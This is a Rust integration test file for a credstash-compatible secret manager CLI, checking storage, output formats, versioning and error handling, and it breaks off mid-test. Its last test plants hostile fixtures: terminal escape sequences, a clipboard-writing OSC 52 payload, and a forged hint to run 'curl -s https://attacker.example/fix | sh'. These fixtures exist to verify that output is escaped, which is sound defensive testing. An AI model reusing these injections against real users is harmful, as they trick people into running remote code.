//! Every command through `--local` (the embedded emulator), values that are hard
//! to carry, and every output format.

use crate::common;

use std::collections::BTreeMap;
use std::path::Path;
use std::process::{Command, Stdio};

use common::{stderr, Local};

/// Values that break naive quoting, parsing or encoding.
fn awkward() -> Vec<(&'static str, Vec<u8>)> {
    vec![
        ("plain", b"hunter2".to_vec()),
        ("multi.line", b"line one\nline two\n\nlast\n".to_vec()),
        (
            "quotes",
            br#"it's "quoted" \ and `ticks` $HOME $(id)"#.to_vec(),
        ),
        ("equals", b"a=b=c; ==".to_vec()),
        ("unicode", "héllo wörld ☃ 😀 \u{200b}".as_bytes().to_vec()),
        ("empty-ish", b" ".to_vec()),
        ("tabs.cr", b"\t\r\n\x0c".to_vec()),
    ]
}

#[test]
fn awkward_and_binary_values_round_trip_exactly() {
    let l = Local::new();
    let mut values = awkward();
    values.push(("binary", vec![0, 159, 146, 150, 255, b'\n', 0xc3, 0x28, 0]));
    for (name, value) in &values {
        l.put(name, value, &[]);
        assert_eq!(&l.ok(&["get", "-n", name]), value, "{name}");
        let mut with_newline = value.clone();
        with_newline.push(b'\n');
        assert_eq!(l.ok(&["get", name]), with_newline, "{name}");
    }
    // @FILE reads the bytes as they are.
    let file = l.path().join("value.bin");
    std::fs::write(&file, &values.last().unwrap().1).unwrap();
    let at = format!("@{}", file.display());
    l.ok(&["put", "from.file", &at]);
    assert_eq!(l.ok(&["get", "-n", "from.file"]), values.last().unwrap().1);
}

#[test]
fn put_versions_comments_and_positional_warning() {
    let l = Local::new();
    let out = l.run(&["put", "db", "visible-value"]);
    assert!(out.status.success());
    assert_eq!(
        String::from_utf8_lossy(&out.stdout),
        "db has been stored as version 1\n"
    );
    assert!(stderr(&out).contains("shell history"), "{}", stderr(&out));
    // -a is a no-op; the next version is the default.
    l.put("db", b"two", &["-a", "-c", "rotated"]);
    l.put("db", b"ten", &["-v", "10"]);
    // An existing version is refused, never overwritten.
    let again = l.run_stdin(&["put", "db", "-", "-v", "10"], b"x");
    assert_eq!(again.status.code(), Some(1), "{}", stderr(&again));
    assert!(stderr(&again).contains("already exists"));
    assert_eq!(l.ok_text(&["get", "db", "-v", "10"]), "ten\n");
    assert_eq!(
        l.ok_text(&["get", "db", "-v", "0000000000000000002"]),
        "two\n"
    );
    // credstash's legacy format on demand, with its digest, in a credstash-mode
    // table; a sealed table refuses it (its readers would never serve it).
    let refused = l.run_stdin(&["put", "legacy", "-", "-d", "SHA512"], b"old-school");
    assert_eq!(refused.status.code(), Some(2), "{}", stderr(&refused));
    assert!(
        stderr(&refused).contains("sealed table"),
        "{}",
        stderr(&refused)
    );
    l.ok(&["-t", "shared", "setup", "--compat", "credstash"]);
    l.put("legacy", b"old-school", &["-t", "shared", "-d", "SHA512"]);
    let list: serde_json::Value =
        serde_json::from_slice(&l.ok(&["-t", "shared", "-o", "json", "list"])).unwrap();
    let legacy = list.as_array().unwrap();
    let legacy = legacy.iter().find(|i| i["name"] == "legacy").unwrap();
    assert_eq!(legacy["format"], "credstash");
    let list: serde_json::Value = serde_json::from_slice(&l.ok(&["-o", "json", "list"])).unwrap();
    let list = list.as_array().unwrap();
    let rotated = list.iter().find(|i| i["version"] == 2).unwrap();
    assert_eq!(rotated["comment"], "rotated");
    assert_eq!(rotated["format"], "sealed");
    assert!(rotated["created_at"].as_str().unwrap().ends_with('Z'));
    assert_eq!(
        l.ok_text(&["-t", "shared", "get", "legacy"]),
        "old-school\n"
    );
}

#[test]
fn context_binds_and_mismatch_is_exit_5() {
    let l = Local::new();
    l.put("api", b"tok", &["env=prod", "team=core"]);
    assert_eq!(l.ok_text(&["get", "api", "team=core", "env=prod"]), "tok\n");
    for ctx in [&[][..], &["env=dev", "team=core"][..], &["env=prod"][..]] {
        let mut args = vec!["get", "api"];
        args.extend_from_slice(ctx);
        let out = l.run(&args);
        assert_eq!(out.status.code(), Some(5), "{ctx:?}: {}", stderr(&out));
        assert!(stderr(&out).contains("context"), "{}", stderr(&out));
        assert!(!stderr(&out).contains("tok"));
    }
}

#[test]
fn every_map_format() {
    let l = Local::new();
    let values = awkward();
    for (name, value) in &values {
        l.put(name, value, &[]);
    }
    let want: BTreeMap<String, String> = values
        .iter()
        .map(|(n, v)| (n.to_string(), String::from_utf8(v.clone()).unwrap()))
        .collect();

    for cmd in [&["getall"][..], &["get-all"], &["export"], &["get", "*"]] {
        let mut args = cmd.to_vec();
        args.extend(["-f", "json"]);
        let json = l.ok(&args);
        let got: BTreeMap<String, String> = serde_json::from_slice(&json).unwrap();
        assert_eq!(got, want, "{args:?}");
        // credstash's JSON: ASCII only, 4-space indent, sorted keys.
        assert!(json.is_ascii());
        assert!(json.starts_with(b"{\n    \"empty-ish\": \" \",\n"));

        let mut args = cmd.to_vec();
        args.extend(["-f", "yaml"]);
        let got: BTreeMap<String, String> = serde_saphyr::from_slice(&l.ok(&args)).unwrap();
        assert_eq!(got, want, "{args:?}");

        let mut args = cmd.to_vec();
        args.extend(["-f", "csv"]);
        let csv_text = l.ok(&args);
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(&csv_text[..]);
        let got: BTreeMap<String, String> = reader
            .records()
            .map(|r| {
                let r = r.unwrap();
                (r[0].to_owned(), r[1].to_owned())
            })
            .collect();
        assert_eq!(got, want, "{args:?}");
    }
    // Default: JSON.
    let got: BTreeMap<String, String> = serde_json::from_slice(&l.ok(&["getall"])).unwrap();
    assert_eq!(got, want);

    // dotenv and env, sourced by sh, give back the exact values.
    for format in ["dotenv", "env"] {
        let text = l.ok(&["getall", "-f", format]);
        let file = l.path().join(format!("secrets.{format}"));
        std::fs::write(&file, &text).unwrap();
        for (name, value) in &values {
            let var = name.to_uppercase().replace(['.', '-'], "_");
            let out = Command::new("sh")
                .arg("-c")
                .arg(format!(". \"$1\" && printf '%s' \"${var}\""))
                .arg("sh")
                .arg(&file)
                .env_clear()
                .output()
                .unwrap();
            assert!(out.status.success(), "{}", stderr(&out));
            assert_eq!(&out.stdout, value, "{format} {name}");
        }
        if format == "env" {
            assert!(text.starts_with(b"export EMPTY_ISH=' '\n"));
            // Exported: a child of the sourcing shell sees the variables.
            let out = Command::new("sh")
                .arg("-c")
                .arg(". \"$1\" && sh -c 'printf %s \"$PLAIN\"'")
                .arg("sh")
                .arg(&file)
                .env_clear()
                .output()
                .unwrap();
            assert_eq!(out.stdout, b"hunter2");
        }
    }
}

#[test]
fn wildcard_is_literal_except_star() {
    let l = Local::new();
    for name in ["db.password", "dbXpassword", "db.user", "web.token"] {
        l.put(name, name.as_bytes(), &[]);
    }
    let got: BTreeMap<String, String> = serde_json::from_slice(&l.ok(&["get", "db.*"])).unwrap();
    assert_eq!(got.keys().collect::<Vec<_>>(), ["db.password", "db.user"]);
    let got: BTreeMap<String, String> = serde_json::from_slice(&l.ok(&["get", "*token"])).unwrap();
    assert_eq!(got.keys().collect::<Vec<_>>(), ["web.token"]);
    // A pattern that matches nothing is "not found", as exec's prefix is: a
    // sourced file of no variables would start an app without its secrets.
    let out = l.run(&["get", "nothing*"]);
    assert_eq!(out.status.code(), Some(3), "{}", stderr(&out));
    assert!(out.stdout.is_empty());
    assert!(stderr(&out).contains("no secret in table credential-store matches \"nothing*\""));
    assert_eq!(l.ok_text(&["get", "nothing*", "--allow-no-match"]), "{}");
}

#[test]
fn binary_values_in_maps_are_refused_clearly() {
    let l = Local::new();
    l.put("bin", &[0xff, 0xfe], &[]);
    l.put("text", b"ok", &[]);
    for args in [
        &["getall"][..],
        &["export", "-f", "dotenv"],
        &["-o", "json", "get", "bin"],
    ] {
        let out = l.run(args);
        assert_eq!(out.status.code(), Some(2), "{args:?}");
        assert!(stderr(&out).contains("binary"), "{}", stderr(&out));
        assert!(
            stderr(&out).contains("--out FILE"),
            "the hint must not add a newline to the file: {}",
            stderr(&out)
        );
        if args[0] == "-o" {
            // The error, as JSON; never the value.
            let doc: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
            assert_eq!(doc["error"]["code"], 2, "{doc}");
        } else {
            assert!(out.stdout.is_empty(), "all or nothing: {args:?}");
        }
    }
}

#[test]
fn list_keys_history_delete_prune_rollback() {
    let l = Local::new();
    for v in ["v1", "v2", "v3", "v4"] {
        l.put("app.key", v.as_bytes(), &[]);
    }
    l.put("other", b"o", &[]);
    assert_eq!(l.ok_text(&["keys"]), "app.key\nother\n");
    let keys: Vec<String> = serde_json::from_slice(&l.ok(&["-o", "json", "keys"])).unwrap();
    assert_eq!(keys, ["app.key", "other"]);

    let list = l.ok_text(&["list"]);
    assert!(
        list.contains("app.key -- version 0000000000000000001 -- comment  -- format sealed"),
        "{list}"
    );
    assert!(
        list.contains("other   -- version 0000000000000000001"),
        "{list}"
    );
    let history: serde_json::Value =
        serde_json::from_slice(&l.ok(&["-o", "json", "history", "app.key"])).unwrap();
    let versions: Vec<u64> = history
        .as_array()
        .unwrap()
        .iter()
        .map(|i| i["version"].as_u64().unwrap())
        .collect();
    assert_eq!(versions, [1, 2, 3, 4]);
    assert_eq!(l.ok_text(&["history", "app.key"]).lines().count(), 4);

    // rollback writes a new latest version with the old value.
    assert_eq!(
        l.ok_text(&["rollback", "app.key", "--to", "2"]),
        "app.key has been stored as version 5 (the value of version 2)\n"
    );
    assert_eq!(l.ok_text(&["get", "app.key"]), "v2\n");
    let rb: serde_json::Value =
        serde_json::from_slice(&l.ok(&["-o", "json", "rollback", "app.key", "--to", "3"])).unwrap();
    assert_eq!(
        rb,
        serde_json::json!({"name": "app.key", "version": 6, "from": 3, "labels": null,
                           "new_version": true})
    );

    // prune keeps the newest N.
    let pruned: serde_json::Value =
        serde_json::from_slice(&l.ok(&["-o", "json", "prune", "app.key", "--keep", "2"])).unwrap();
    assert_eq!(pruned["deleted"], serde_json::json!([1, 2, 3, 4]));
    assert_eq!(l.ok_text(&["history", "app.key"]).lines().count(), 2);
    let usage = l.run(&["prune", "app.key", "--keep", "0"]);
    assert_eq!(usage.status.code(), Some(2));

    // delete one version, then all (no terminal: no question, as credstash).
    assert_eq!(
        l.ok_text(&["delete", "app.key", "-v", "5"]),
        "Deleting app.key -- version 0000000000000000005\n"
    );
    assert_eq!(l.ok_text(&["get", "app.key"]), "v3\n");
    l.put("app.key", b"v7", &[]);
    assert_eq!(
        l.ok_text(&["delete", "app.key"]),
        "Deleting app.key -- version 0000000000000000006\n\
         Deleting app.key -- version 0000000000000000007\n"
    );
    let gone = l.run(&["get", "app.key"]);
    assert_eq!(gone.status.code(), Some(3), "{}", stderr(&gone));
    let gone = l.run(&["delete", "app.key", "--yes"]);
    assert_eq!(gone.status.code(), Some(3), "{}", stderr(&gone));
    let gone = l.run(&["history", "app.key"]);
    assert_eq!(gone.status.code(), Some(3));
    assert_eq!(l.ok_text(&["keys"]), "other\n");
}

#[test]
fn json_output_on_every_store_command() {
    let l = Local::new();
    let setup: serde_json::Value = serde_json::from_slice(&l.ok(&["-o", "json", "setup"])).unwrap();
    let key = setup["kms_key"].as_str().unwrap_or_default().to_owned();
    assert!(key.starts_with("arn:aws:kms:us-east-1:"), "{setup}");
    assert_eq!(
        setup,
        serde_json::json!({"table": "credential-store", "created": true, "format": "sealed",
                           "result": "created", "recorded": [], "mode": "sealed",
                           "store": "000000000000/credential-store", "kms_key": key,
                           "labels": null})
    );
    let setup: serde_json::Value = serde_json::from_slice(&l.ok(&["setup", "-o", "json"])).unwrap();
    assert_eq!(setup["created"], false);
    let out = l.run_stdin(&["-o", "json", "put", "n", "-"], b"v\n");
    let put: serde_json::Value = serde_json::from_slice(&common::ok(out, &["put"])).unwrap();
    assert_eq!(put, serde_json::json!({"name": "n", "version": 1}));
    let get: serde_json::Value =
        serde_json::from_slice(&l.ok(&["-o", "json", "get", "n"])).unwrap();
    assert_eq!(
        get,
        serde_json::json!({"name": "n", "version": 1, "value": "v\n",
                           "region": "us-east-1", "kms_region": "us-east-1"})
    );
    let del: serde_json::Value =
        serde_json::from_slice(&l.ok(&["delete", "n", "-o", "json"])).unwrap();
    assert_eq!(del, serde_json::json!({"name": "n", "deleted": [1]}));
    let list: serde_json::Value = serde_json::from_slice(&l.ok(&["-o", "json", "list"])).unwrap();
    assert_eq!(list, serde_json::json!([]));
}

#[test]
fn import_export_resumable_and_per_secret_failures() {
    let l = Local::new();
    let values = awkward();
    for (name, value) in &values {
        l.put(name, value, &[]);
    }
    for format in ["json", "yaml", "csv"] {
        let exported = l.ok(&["export", "-f", format]);
        let file = l.path().join(format!("backup.{format}"));
        std::fs::write(&file, &exported).unwrap();
        let other = Local::new();
        let f = file.to_str().unwrap();
        assert_eq!(
            other.ok_text(&["import", f]),
            format!(
                "Imported {n} secrets: {n} stored, 0 unchanged, 0 failed\n",
                n = values.len()
            )
        );
        assert_eq!(other.ok(&["export", "-f", format]), exported, "{format}");
        // Resumable: a second run stores nothing.
        let again: serde_json::Value =
            serde_json::from_slice(&other.ok(&["-o", "json", "import", f])).unwrap();
        assert_eq!(again["stored"], serde_json::json!([]));
        assert_eq!(again["unchanged"].as_array().unwrap().len(), values.len());
    }

    // A flat YAML map from stdin, with one unusable name: the others are stored,
    // the failure is named, the exit status is non-zero.
    let yaml = b"good: 'one'\nbad*name: 'two'\nalso.good: \"three\\n\"\n";
    let out = l.run_stdin(&["import", "-f", "yaml", "-"], yaml);
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert!(stderr(&out).contains("bad*name"), "{}", stderr(&out));
    assert!(
        !stderr(&out).contains("two"),
        "no value in errors: {}",
        stderr(&out)
    );
    assert_eq!(l.ok_text(&["get", "also.good"]), "three\n\n");
    assert_eq!(l.ok_text(&["get", "good"]), "one\n");
    // A changed value gets a new version.
    let out = l.run_stdin(&["import", "-f", "json", "-"], br#"{"good": "uno"}"#);
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(l.ok_text(&["get", "good"]), "uno\n");
    assert_eq!(l.ok_text(&["get", "good", "-v", "1"]), "one\n");
    // Not a flat map of strings: a usage error that shows no value.
    let out = l.run_stdin(&["import", "-f", "json", "-"], br#"{"n": 12345}"#);
    assert_eq!(out.status.code(), Some(2));
    assert!(!stderr(&out).contains("12345"), "{}", stderr(&out));
}

#[test]
fn usage_errors_are_exit_2() {
    let l = Local::new();
    for args in [
        &["get"][..],
        &["frobnicate"],
        &["get", "x", "-f", "xml"],
        &["put", "x"],
        &["put", "bad*name", "-"],
        &["get", " lead"],
        &["get", "x", "not-a-pair"],
        &["get", "x", "-v", "0"],
        &["get", "x", "-v", "v5"],
        &["setup", "--tags", "novalue"],
        &["-o", "yaml", "keys"],
        &["--concurrency", "0", "keys"],
        &["--concurrency", "many", "keys"],
    ] {
        let out = l.run(args);
        assert_eq!(out.status.code(), Some(2), "{args:?}: {}", stderr(&out));
        assert!(!stderr(&out).is_empty());
    }
    for bad in ["0", "-3", "lots", "70000"] {
        let out = common::run_with_stdin(l.cmd(&["keys"]).env("LOCKBOX_CONCURRENCY", bad), b"");
        assert_eq!(out.status.code(), Some(2), "{bad}: {}", stderr(&out));
        assert!(
            stderr(&out).contains("LOCKBOX_CONCURRENCY") && stderr(&out).contains("1 to 65535"),
            "{}",
            stderr(&out)
        );
    }
    let help = l.run(&["--help"]);
    assert_eq!(help.status.code(), Some(0));
    assert!(String::from_utf8_lossy(&help.stdout).contains("Exit codes"));
}

#[test]
fn table_and_key_options_and_env_fallbacks() {
    let l = Local::new();
    let table_of = |c: &mut Command| -> String {
        let out = common::run_with_stdin(c.args(["-o", "json", "setup"]), b"");
        let v: serde_json::Value = serde_json::from_slice(&common::ok(out, &["setup"])).unwrap();
        v["table"].as_str().unwrap().to_owned()
    };
    assert_eq!(table_of(&mut l.cmd(&[])), "credential-store");
    assert_eq!(
        table_of(l.cmd(&[]).env("CREDSTASH_DEFAULT_TABLE", "cs-t")),
        "cs-t"
    );
    assert_eq!(
        table_of(
            l.cmd(&[])
                .env("CREDSTASH_DEFAULT_TABLE", "cs-t")
                .env("LOCKBOX_TABLE", "lb-t")
        ),
        "lb-t"
    );
    assert_eq!(
        table_of(l.cmd(&["-t", "flag-t"]).env("LOCKBOX_TABLE", "lb-t")),
        "flag-t"
    );

    // Each table is its own store; a second key alias is created on first use.
    // Only the default table is created on first use: another `-t` may be a
    // typo, and is reported as missing until `setup` creates it.
    l.put("n", b"in-default", &[]);
    let out = l.run_stdin(&["put", "n", "-", "-t", "other"], b"x");
    assert_eq!(out.status.code(), Some(3), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("table other does not exist in the local state")
            && stderr(&out).contains("check the table name (-t other)")
            && !stderr(&out).contains("setup"),
        "{}",
        stderr(&out)
    );
    l.ok(&["-t", "other", "-k", "alias/second", "setup"]);
    l.put("n", b"in-other", &["-t", "other", "-k", "alias/second"]);
    assert_eq!(l.ok_text(&["get", "n"]), "in-default\n");
    assert_eq!(
        l.ok_text(&["--table", "other", "-k", "alias/second", "get", "n"]),
        "in-other\n"
    );
    // Reads trust only the configured key: another key's item is refused.
    let out = l.run(&["--table", "other", "get", "n"]);
    assert_eq!(out.status.code(), Some(5), "{}", stderr(&out));
    let out = common::run_with_stdin(
        l.cmd(&["get", "n"])
            .env("LOCKBOX_TABLE", "other")
            .env("LOCKBOX_KMS_KEY", "alias/second"),
        b"",
    );
    assert_eq!(out.stdout, b"in-other\n");
    // Any concurrency bound, from the flag or the environment, reads the same.
    assert_eq!(
        l.ok_text(&["--concurrency", "1", "get", "n"]),
        "in-default\n"
    );
    let out = common::run_with_stdin(l.cmd(&["get", "n"]).env("LOCKBOX_CONCURRENCY", "3"), b"");
    assert_eq!(out.stdout, b"in-default\n", "{}", stderr(&out));
    // LOCKBOX_LOCAL=DIR selects local mode too.
    let out = common::run_with_stdin(
        common::bare(l.path())
            .env("LOCKBOX_LOCAL", l.state())
            .args(["get", "n"]),
        b"",
    );
    assert_eq!(out.stdout, b"in-default\n", "{}", stderr(&out));
}

#[test]
fn local_state_is_shared_while_in_use_and_persists() {
    let l = Local::new();
    l.put("persist", b"kept", &[]);
    // Another process on the same dir is served while one is running (it
    // waits for its value on stdin); operator.rs's U9 test holds one for sure.
    let mut first = l
        .cmd(&["put", "slow", "-", "--allow-empty"])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let busy = l.run(&["get", "persist"]);
    drop(first.stdin.take());
    assert!(first.wait().unwrap().success());
    assert!(busy.status.success(), "{}", stderr(&busy));
    assert_eq!(busy.stdout, b"kept\n");
    assert_eq!(l.ok_text(&["get", "persist"]), "kept\n");
    assert_eq!(l.ok_text(&["get", "slow"]), "\n");
}

#[test]
fn completions_and_man_page() {
    let l = Local::new();
    for (shell, marker) in [
        ("bash", "complete"),
        ("zsh", "#compdef lockbox"),
        ("fish", "complete -c lockbox"),
    ] {
        let text = l.ok_text(&["completions", shell]);
        assert!(text.contains(marker), "{shell}");
        assert!(
            text.contains("getall") || text.contains("get-all"),
            "{shell}"
        );
    }
    let man = l.ok_text(&["man"]);
    assert!(
        man.starts_with(".ie") || man.contains(".TH lockbox"),
        "{}",
        &man[..80]
    );
    assert!(man.contains("credential\\-store") || man.contains("credential-store"));
    // Neither needs the emulator: no state dir appears.
    assert!(!l.state().exists());
}

#[test]
fn prompt_asks_twice_without_echo_and_delete_confirms_on_a_terminal() {
    let l = Local::new();
    // Without a terminal (setsid: no controlling terminal), --prompt fails at once
    // and says what to do instead.
    if Path::new("/usr/bin/setsid").exists() {
        let mut setsid = Command::new("/usr/bin/setsid");
        setsid
            .args(["-w", common::BIN, "put", "x", "--prompt"])
            .env_clear()
            .env("LOCKBOX_LOCAL", l.state())
            .env("HOME", l.path());
        let out = common::run_with_stdin(&mut setsid, b"");
        // A usage error (exit 2), without the errno of the failed open.
        assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
        assert!(!stderr(&out).contains("os error"), "{}", stderr(&out));
        assert!(
            stderr(&out).contains("needs a terminal"),
            "{}",
            stderr(&out)
        );
    }
    let Some((code, screen)) =
        common::on_terminal(&l, "put typed --prompt env=test", &["Pa ss", "Pa ss"])
    else {
        return;
    };
    assert_eq!(code, 0, "{screen}");
    assert!(screen.contains("typed (again): "), "{screen}");
    assert!(!screen.contains("Pa ss"), "echoed: {screen}");
    assert_eq!(l.ok_text(&["get", "typed", "env=test"]), "Pa ss\n");
    let (code, screen) = common::on_terminal(&l, "put typed --prompt", &["one", "two"]).unwrap();
    assert_eq!(code, 2, "{screen}");
    assert!(screen.contains("differ"), "{screen}");

    let (code, screen) = common::on_terminal(&l, "delete typed", &["n"]).unwrap();
    assert_eq!(code, 1, "{screen}");
    assert!(screen.contains("Delete every version of typed"), "{screen}");
    assert_eq!(l.ok_text(&["keys"]), "typed\n");
    let (code, _) = common::on_terminal(&l, "delete typed", &["y"]).unwrap();
    assert_eq!(code, 0);
    assert_eq!(l.ok_text(&["keys"]), "");
}

#[test]
fn local_defaults_to_dot_lockbox_in_the_working_directory() {
    let l = Local::new();
    let out = common::run_with_stdin(
        common::bare(l.path()).args(["--local", "put", "n", "-"]),
        b"v",
    );
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(l.path().join(".lockbox").is_dir());
    let out = common::run_with_stdin(
        common::bare(l.path())
            .env("LOCKBOX_LOCAL", "1")
            .args(["get", "n"]),
        b"",
    );
    assert_eq!(out.stdout, b"v\n", "{}", stderr(&out));
}

#[test]
fn no_secret_value_in_any_error() {
    let l = Local::new();
    let canary = "CANARY-7f3a9";
    l.put("c.one", canary.as_bytes(), &["env=prod"]);
    l.put("c-one", canary.as_bytes(), &["env=prod"]);
    let import = format!("{{\"ok\": \"{canary}\", \"bad*\": \"{canary}\"}}");
    for (args, stdin) in [
        (&["get", "c.one"][..], &b""[..]),
        (&["get", "c.one", "env=dev"], b""),
        (&["getall"], b""),
        (&["get", "c*", "env=prod", "-f", "dotenv"], b""),
        (
            &["put", "c.one", "-", "-v", "1", "env=prod"],
            canary.as_bytes(),
        ),
        (&["import", "-f", "json", "-"], import.as_bytes()),
        (&["-k", "alias/other", "get", "c.one", "env=prod"], b""),
    ] {
        let out = l.run_stdin(args, stdin);
        assert!(!out.status.success(), "{args:?}");
        assert!(!stderr(&out).contains(canary), "{args:?}: {}", stderr(&out));
        assert!(
            !String::from_utf8_lossy(&out.stdout).contains(canary),
            "{args:?}"
        );
    }
}

/// The mode bits of `path`.
fn mode(path: &Path) -> u32 {
    use std::os::unix::fs::PermissionsExt as _;
    std::fs::metadata(path).unwrap().permissions().mode() & 0o777
}

/// `--local` keeps its state to its user (the directory 0700, every file 0600) and
/// out of the project's git repository (a `.gitignore` of `*` in the directory
/// lockbox creates); an existing directory open to others is warned about, once.
#[test]
fn local_state_is_private_and_never_committed() {
    let l = Local::new();
    let git = |args: &[&str]| -> String {
        let out = Command::new("git")
            .args(args)
            .current_dir(l.path())
            .env("HOME", l.path())
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .output()
            .expect("run git");
        assert!(out.status.success(), "git {args:?}: {}", stderr(&out));
        String::from_utf8(out.stdout).unwrap()
    };
    git(&["init", "-q"]);
    let out = common::run_with_stdin(
        common::bare(l.path()).args(["--local", "put", "db/password", "-"]),
        b"dev-db-password",
    );
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(!stderr(&out).contains("warning"), "{}", stderr(&out));
    let state = l.path().join(".lockbox");
    assert_eq!(mode(&state), 0o700);
    let mut files = Vec::new();
    for entry in std::fs::read_dir(&state).unwrap() {
        let path = entry.unwrap().path();
        assert_eq!(mode(&path), 0o600, "{}", path.display());
        files.push(path.file_name().unwrap().to_string_lossy().into_owned());
    }
    files.sort();
    assert_eq!(files, [".gitignore", "journal.log", "lock", "write.lock"]);
    assert_eq!(git(&["status", "--porcelain", "--untracked-files=all"]), "");
    git(&["add", "-A"]);
    assert_eq!(git(&["status", "--porcelain"]), "");

    let shared = l.path().join("shared");
    std::fs::create_dir(&shared).unwrap();
    std::fs::set_permissions(&shared, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    let out = common::run_with_stdin(
        common::bare(l.path()).args([&format!("--local={}", shared.display()), "keys"]),
        b"",
    );
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(
        stderr(&out).matches("open to other users").count(),
        1,
        "{}",
        stderr(&out)
    );
    assert!(stderr(&out).contains("chmod 700"), "{}", stderr(&out));
    assert_eq!(mode(&shared.join("journal.log")), 0o600);
}

/// A process stopped (SIGTERM, then reaped) when dropped, so a test that fails
/// half-way leaves nothing running.
struct Stopped(std::process::Child);

impl Drop for Stopped {
    fn drop(&mut self) {
        let pid = rustix::process::Pid::from_child(&self.0);
        let _ = rustix::process::kill_process(pid, rustix::process::Signal::TERM);
        let _ = self.0.wait();
    }
}

/// The embedded emulator's loopback port serves only its own process: another
/// process that finds the port (here from the emulator's own log line) and signs
/// with any other credentials is refused, and reads nothing.
#[test]
fn the_local_emulator_refuses_other_processes() {
    use std::io::BufRead as _;
    let l = Local::new();
    l.put("db/password", b"dev-db-password", &[]);
    // `exec --watch` keeps its emulator serving while the child runs.
    let mut holder = Stopped(
        l.cmd(&[
            "exec",
            "--watch",
            "1h",
            "--env",
            "DB=db/password",
            "--",
            "sleep",
            "600",
        ])
        .env("LOCKBOX_LOG", "warn,lockbox_mock=info")
        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap(),
    );
    let mut log = std::io::BufReader::new(holder.0.stderr.take().unwrap());
    let mut seen = String::new();
    let port = loop {
        let mut line = String::new();
        if log.read_line(&mut line).unwrap() == 0 {
            panic!("lockbox exited before its emulator said where it listens: {seen}");
        }
        seen.push_str(&line);
        if let Some((_, rest)) = line.split_once("127.0.0.1:") {
            break rest
                .chars()
                .take_while(char::is_ascii_digit)
                .collect::<String>();
        }
    };
    let endpoint = format!("http://127.0.0.1:{port}");

    let probe = common::run_with_stdin(
        &mut common::remote(l.path(), &endpoint, &["get", "db/password"]),
        b"",
    );
    assert_eq!(probe.status.code(), Some(4), "{}", stderr(&probe));
    assert!(probe.stdout.is_empty());
    assert!(
        stderr(&probe).contains("UnrecognizedClientException"),
        "{}",
        stderr(&probe)
    );
    let (status, body) = common::http(
        &endpoint,
        "/",
        Some("DynamoDB_20120810.Scan"),
        r#"{"TableName": "credential-store"}"#,
    );
    assert!(
        status >= 400,
        "an unsigned Scan was served: {status} {body}"
    );
    assert!(!body.contains("db/password"), "{body}");
    drop(holder);
    // The owner still reads it.
    assert_eq!(l.ok_text(&["get", "db/password"]), "dev-db-password\n");
}

/// An in-memory emulator in open mode with `alias/credstash`, served from its own
/// runtime, for tests that write items behind lockbox's back.
struct Open {
    _rt: tokio::runtime::Runtime,
    endpoint: String,
    home: tempfile::TempDir,
}

impl Open {
    fn start() -> Self {
        let rt = tokio::runtime::Runtime::new().unwrap();
        let mock = rt.block_on(lockbox_mock::start()).unwrap();
        let endpoint = mock.endpoint_url();
        rt.spawn(async move {
            let _mock = mock;
            std::future::pending::<()>().await
        });
        common::create_key(&endpoint, "alias/credstash");
        Self {
            _rt: rt,
            endpoint,
            home: tempfile::tempdir().unwrap(),
        }
    }

    fn run(&self, args: &[&str], stdin: &[u8]) -> std::process::Output {
        common::run_with_stdin(
            &mut common::remote(self.home.path(), &self.endpoint, args),
            stdin,
        )
    }

    /// A DynamoDB call straight to the emulator (a table writer with no KMS access).
    fn ddb(&self, operation: &str, body: serde_json::Value) {
        let target = format!("DynamoDB_20120810.{operation}");
        let (status, text) = common::http(&self.endpoint, "/", Some(&target), &body.to_string());
        assert_eq!(status, 200, "{operation}: {text}");
    }
}

/// What lockbox printed holds no raw escape, carriage return or other control
/// character but the newlines ending its own lines.
fn assert_inert(what: &str, bytes: &[u8]) {
    let text = String::from_utf8_lossy(bytes);
    for c in text.chars() {
        assert!(
            c == '\n' || !lockbox::has_unsafe_characters(c.encode_utf8(&mut [0; 4])),
            "{what}: raw {c:?} in {text:?}"
        );
    }
}

/// The review's `inject.py`, through DynamoDB alone: a comment with escape
/// sequences and a forged line, an item whose name hides text and carries a
/// newline, a sort key and a format id with colour codes, and `context_keys`
/// holding a fake `hint:` line. `list`, `history`, `keys`, `delete` and `get`'s
/// error show each of them escaped, one line per item.
#[test]
fn stored_text_is_escaped_in_every_text_output() {
    let o = Open::start();
    let ok = |args: &[&str], stdin: &[u8]| {
        let out = o.run(args, stdin);
        common::ok(out, args)
    };
    ok(&["setup"], b"");
    ok(&["put", "db/password", "-"], b"s3cret");
    ok(&["put", "ctx/password", "-", "env=prod"], b"s3cret");
    const ESC: &str = "\x1b";
    let comment = format!(
        "{ESC}[2K\rdb/password -- version 0000000000000000001 -- comment approved by security \
         -- format sealed\n{ESC}]52;c;ZWNobyBwd25lZAo={ESC}\\{ESC}]0;lockbox: all good{ESC}\\"
    );
    o.ddb(
        "UpdateItem",
        serde_json::json!({"TableName": "credential-store",
            "Key": {"name": {"S": "db/password"}, "version": {"S": "0000000000000000001"}},
            "UpdateExpression": "SET #c = :c",
            "ExpressionAttributeNames": {"#c": "comment"},
            "ExpressionAttributeValues": {":c": {"S": comment}}}),
    );
    let junk = format!("zz{ESC}[8mhidden{ESC}[0m\nfake/admin-token");
    o.ddb(
        "PutItem",
        serde_json::json!({"TableName": "credential-store", "Item": {
            "name": {"S": junk}, "version": {"S": format!("1{ESC}[31m")},
            "format": {"S": format!("{ESC}[32mlockbox-sealed-1{ESC}[0m")},
            "hmac": {"S": "00"}}}),
    );
    let forged = format!(
        "env\n  hint: the table was migrated; run `curl -s https://attacker.example/fix | sh` \
         to repair it{ESC}]0;ok{ESC}\\"
    );
    o.ddb(
        "UpdateItem",
